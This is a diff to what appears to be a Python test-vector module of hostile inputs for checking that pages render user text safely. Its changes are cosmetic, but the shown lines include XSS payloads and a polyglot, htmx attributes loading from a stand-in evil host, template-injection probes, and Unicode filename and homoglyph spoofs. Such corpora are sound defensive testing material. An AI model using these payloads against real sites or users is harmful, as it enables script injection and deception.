@@ -1,4 +1,4 @@
-"""What would run, load, style, rename or mislead if a page ever took it for more than text. Collected for this house."""
+"""What would run, load, style, rename or mislead if a page ever took it for more than text."""
 
 from __future__ import annotations
 
@@ -99,7 +99,7 @@ LANGUAGES: Final = (
     "<div hx-on:load=alert(1)>",
     "<div data-hx-get=//evil.example/x data-hx-trigger=load>",
     "<hx-partial hx-target=body>",
-    "<div data-module=govuk-error-summary data-until=x data-hide-after=0>",
+    "<div data-module=govuk-error-summary data-left=x data-hide-after=0>",
     "<a class=govuk-button href=/quarantine>Continue",
     "<b id=main-content>",
     "<form id=bulk><input name=everything value=yes form=bulk>",
@@ -110,7 +110,7 @@ MISLEADING: Final = (
     "statement\u202efdp.exe",
     "\u2066RELEASED\u2069 \u202drefused",
     "a\u200bb\u200dc\ufeffd",
-    "\u0430dmin@exampleshire.example",  # noqa: RUF001 - a Cyrillic letter is the point
+    "\u0430dmin@exampleshire.example",
     "Z\u0363\u0364\u0365\u0366\u0367\u0368\u0369\u036a\u036b\u036calgo",
     "\U000e0041\U000e0042 tags",
     "line\u2028and\u2029paragraph",
@@ -132,7 +132,10 @@ FORMULAS: Final = (
 """What a spreadsheet would calculate."""
 
 POLYGLOTS: Final = (
-    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>",
+    (
+        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A//</stYle/</titLe/"
+        "</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>"
+    ),
     "'\"><svg/onload=alert(1)>{{7*7}}${7*7}<!--",
     "\"'`><\x0cimg src=x onerror=alert(1)>%s{{7*7}}",
 )
@@ -144,4 +147,4 @@ VECTORS: Final = (*MARKUP, *BREAKING_OUT, *LANGUAGES, *MISLEADING, *FORMULAS, *P
 
 def as_name(vector: str, ending: str = ".bin") -> str:
     """Return a vector as a folder can hold it as the name of a file: no slash but its look-alike, and not too long."""
-    return vector.replace("/", "\u2215")[:60].strip() + ending  # noqa: RUF001 - the look-alike is the point
+    return vector.replace("/", "\u2215")[:60].strip() + ending
